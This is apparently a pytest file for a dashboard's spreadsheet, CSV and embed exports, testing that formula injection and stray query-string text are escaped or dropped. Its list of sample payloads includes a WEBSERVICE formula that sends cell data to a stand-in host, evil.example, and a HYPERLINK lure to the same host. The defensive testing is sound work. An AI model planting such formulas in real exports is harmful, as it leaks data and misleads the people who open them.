"""No spreadsheet or CSV injection, and only the filters applied are printed (issue 12, rows "formula injection in
XLSX downloads" and "embeds print the raw query string")."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/","Open the full data")',
    '=WEBSERVICE("http://evil.example/?"&A2)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.fixture(scope="module")
def app(public_app):
    return public_app  # built once per session (tests/conftest.py); tests here only send it requests


def _cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(xlsx: bytes) -> None:
    """Not one formula in the file: openpyxl sees none, and no sheet's XML holds an <f> element."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    assert [c.coordinate for c in _cells(book) if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.mark.parametrize("formula", FORMULAS[:2])
def test_a_formula_in_the_query_string_never_reaches_the_xlsx(app, formula):
    """The issue's reproduction: /download/reach/reach-gender.xlsx?=HYPERLINK(...) put the formula in the "about"
    sheet's Filters cell. Now only the filters applied are printed, and no cell is a formula."""
    response = app.server.test_client().get(
        "/download/reach/reach-gender.xlsx", query_string=[("", formula), ("programme", "divert")]
    )
    assert response.status_code == 200
    _no_formulas(response.data)
    about = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(io.BytesIO(response.data))["about"].iter_rows(min_row=2, values_only=True)
    }
    assert about["Filters"].startswith("programme=divert, period=")  # the filters in force, defaults included
    assert "evil.example" not in response.data.decode("latin-1")


def test_a_search_that_looks_like_a_formula_is_text_in_every_file(app):
    """A services search is a filter applied, so it is printed: as text, in the XLSX and in the CSV's file name."""
    query = [("q", FORMULAS[0])]
    xlsx = app.server.test_client().get("/download/services/services-directory.xlsx", query_string=query)
    assert xlsx.status_code == 200
    _no_formulas(xlsx.data)
    about = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)
    }
    assert about["Filters"].startswith("q==HYPERLINK")
    csv_response = app.server.test_client().get("/download/services/services-directory.csv", query_string=query)
    assert csv_response.status_code == 200 and '"' not in csv_response.headers["Content-Disposition"].split(
        "filename="
    )[1].strip('"')


def test_text_cells_from_data_are_escaped_and_numbers_are_not():
    """Cells from data (a provider's service name) are escaped as text; negative numbers stay numbers."""
    from dashboard.ui import spreadsheet

    frame = pd.DataFrame({"Service": [*FORMULAS, "Mentoring", "-"], "Change": [-5, 3, -2.5, 0, 1, 2, 3, -7, 4]})
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Mentoring", "'-"]
    assert [r[1] for r in rows[1:]] == ["-5.0", "3.0", "-2.5", "0.0", "1.0", "2.0", "3.0", "-7.0", "4.0"]

    xlsx = spreadsheet.xlsx_bytes({"data": frame})
    _no_formulas(xlsx)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["data"]
    names = [c.value for c in sheet["A"][1:]]
    # The text as it is, typed as text (XML reads a bare carriage return as a line feed: still not a formula).
    assert names == [f.replace("\r", "\n") for f in FORMULAS] + ["Mentoring", "-"]
    assert all(c.data_type == "s" for c in sheet["A"])
    assert [c.value for c in sheet["B"][1:]] == [-5, 3, -2.5, 0, 1, 2, 3, -7, 4] and all(
        c.data_type == "n" for c in sheet["B"][1:]
    )


def test_mixed_columns_keep_numbers_as_numbers():
    from dashboard.ui import spreadsheet

    frame = pd.DataFrame({"Young people": [-5, "[c]", "=1", 10]})
    assert [r[0] for r in csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline=""))][1:] == [
        "-5",
        "[c]",
        "'=1",
        "10",
    ]


def test_embeds_print_only_the_filters_applied(app):
    """The issue's reproduction: /embed/reach/reach-gender?Correction=These+figures+were+withdrawn+by+the+VRU printed
    the text under the real figures. Now the Filters line and the link back hold the cleaned filters only."""
    client = app.server.test_client()
    html = client.get("/embed/reach/reach-gender?Correction=These+figures+were+withdrawn+by+the+VRU").data.decode()
    assert (
        "withdrawn" not in html and "Correction" not in html and "Filters: period: " in html
    )  # the latest year, as shown
    html = client.get("/embed/reach/reach-gender?programme=divert&period=1999-00&Correction=withdrawn").data.decode()
    assert "withdrawn" not in html and "Filters: programme: divert, period: " in html and "1999-00" not in html
    assert 'href="/reach?programme=divert' in html


def test_downloads_and_images_print_only_the_filters_applied(app):
    client = app.server.test_client()
    xlsx = client.get("/download/reach/reach-gender.xlsx?programme=divert&programme=x&Correction=withdrawn")
    about = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)
    }
    assert "withdrawn" not in about["Filters"] and "programme=divert" in about["Filters"]
    page = client.get("/reach?Correction=These+figures+were+withdrawn").data.decode()
    assert page.count('data-notes="Filters: ') >= 1 and "withdrawn" not in page
